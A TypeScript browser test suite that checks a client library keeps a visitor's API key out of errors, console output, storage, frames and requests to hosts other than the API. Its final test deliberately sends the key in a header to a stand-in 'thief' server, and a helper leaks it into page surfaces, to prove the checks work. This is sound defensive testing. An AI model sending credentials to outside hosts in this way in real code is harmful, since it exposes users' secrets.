import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { buildIfStale } from "../../scripts/lib/install.ts";
import { browsers, type OpenPage } from "../support/pages.ts";
import { holdsKey, KEY, type Report } from "./page.ts";
import { ACTS } from "./scenarios.ts";
import { type Seen, type Servers, startServers } from "./servers.ts";

const STRICT = process.env["FETCHAT_REQUIRE_ALL"] === "1";
const missing = new Map(
  await Promise.all(browsers.map(async (browser) => [browser, await browser.missing()] as const)),
);
if (STRICT) expect([...missing.values()].filter((why) => why !== undefined)).toEqual([]);

/** Chromium itself writes the status line of a refusal to its console, where no script can read it. */
const STATUS_LINE = /^Failed to load resource: the server responded with a status of 401 \(No /;

describe.each(browsers)("in $name, the visitor's key", (browser) => {
  const skip = missing.get(browser) !== undefined;
  let servers: Servers;
  let page: OpenPage;
  let runs = 0;

  beforeAll(async () => {
    if (skip) return;
    await buildIfStale();
    servers = await startServers();
    page = await browser.open();
    await page.goto(`${servers.site.origin}/`);
  });
  afterAll(async () => {
    await page?.close();
    servers?.close();
  });

  beforeEach(() => {
    for (const list of skip ? [] : [page.console, servers.api.seen, servers.thief.seen, servers.site.seen])
      list.length = 0;
  });

  /** A base URL per run, to tell the requests of different runs apart. */
  const baseURL = (act: string): string => `${servers.api.origin}/v1/${encodeURIComponent(`${act} #${++runs}`)}`;
  const leaks = async (call: string, ...args: string[]): Promise<Report> =>
    (await page.evaluate(`leaks.${call}(${args.map((arg) => JSON.stringify(arg)).join(", ")})`)) as Report;
  const own = (base: string): Seen[] => servers.api.seen.filter(({ url }) => url.startsWith(new URL(base).pathname));

  /** Checks that only the API received the key, in its one header. */
  function expectUnsent(): void {
    expect(servers.thief.seen.filter(({ whole }) => holdsKey(whole))).toEqual([]);
    expect(servers.site.seen.filter(({ whole }) => holdsKey(whole))).toEqual([]);
    expect(servers.api.seen.filter(({ rest, url }) => holdsKey(rest) && !url.endsWith("/other"))).toEqual([]);
    expect(page.console.filter((line) => holdsKey(line) && !STATUS_LINE.test(line))).toEqual([]);
  }

  it.skipIf(skip).each(Object.keys(ACTS))(
    "is neither sent nor shown to anybody else where the server %s",
    async (act) => {
      const base = baseURL(act);
      const { shown, endings } = await leaks("run", base);
      expect(shown).toEqual([]);
      expectUnsent();
      // WebKit loads the target of a Link header of any answer, without the key.
      expect(servers.thief.seen.map(({ url }) => url).filter((url) => url !== "/linked")).toEqual([]);
      // Browsers have six connections to a host: if none ends, some calls never begin.
      expect(own(base).length).toBeGreaterThanOrEqual(act === "never answers" ? 4 : 9);
      expect(
        new Set(
          own(base)
            .filter(({ url }) => !url.endsWith("/other"))
            .map(({ authorization }) => authorization),
        ),
      ).toEqual(new Set([`Bearer ${KEY}`]));
      if (act !== "repeats the key in headers of an answer")
        expect(
          endings.filter((ending) => / (APIError|ConnectionError|StreamError|TimeoutError)$/.test(ending)).length,
        ).toBeGreaterThanOrEqual(7);
    },
  );

  it.skipIf(skip)("is not in an error that a worker hands to its page", async () => {
    const base = baseURL("repeats the key in a stream's error");
    const { shown, endings } = await leaks("worker", base);
    expect([shown, endings]).toEqual([[], ["Bad key [key]"]]);
    expect(own(base).map(({ authorization }) => authorization)).toEqual([`Bearer ${KEY}`]);
  });

  it.skipIf(skip)("is kept in a storage under its name alone, until it is forgotten", async () => {
    const { shown, endings } = await leaks(
      "storage",
      baseURL("repeats the key in an error's message, code, type and parameter"),
    );
    expect([shown, endings]).toEqual([[], ["fetchat.key: the key"]]);
    expectUnsent();
  });

  it.skipIf(skip)("stays where it belongs whatever a stranger's frame posts, or another frame stores", async () => {
    const base = baseURL("repeats the key in an error's message, code, type and parameter");
    const { shown, endings } = await leaks("events", base, servers.thief.origin);
    expect(shown).toEqual([]);
    expect(endings).toEqual(expect.arrayContaining(["fetchat.baseURL", "OPENAI_BASE_URL", "fetchat.key"]));
    expect(servers.thief.seen.map(({ url }) => url)).toEqual(expect.arrayContaining(["/page", "/heard"]));
    expect(servers.thief.seen.every(({ url }) => ["/page", "/heard"].includes(url))).toBe(true);
    expectUnsent();
    expect(own(base)).toHaveLength(4);
  });

  it.skipIf(skip).each(["console", "error", "rejection", "storage", "document"])(
    "would be seen by these tests in the page's %s",
    async (where) => {
      expect((await leaks("carelessly", where)).shown).not.toEqual([]);
      if (where === "console" && browser.name !== "WebKit")
        await expect.poll(() => page.console.filter(holdsKey)).not.toEqual([]);
    },
  );

  it.skipIf(skip)("would be seen by these tests at another host", async () => {
    await page.evaluate(
      `fetch(${JSON.stringify(`${servers.thief.origin}/v1`)}, { headers: { "x-own": ${JSON.stringify(KEY)} } }).then((response) => response.text())`,
    );
    expect(servers.thief.seen.filter(({ whole }) => holdsKey(whole))).toHaveLength(1);
  });
});
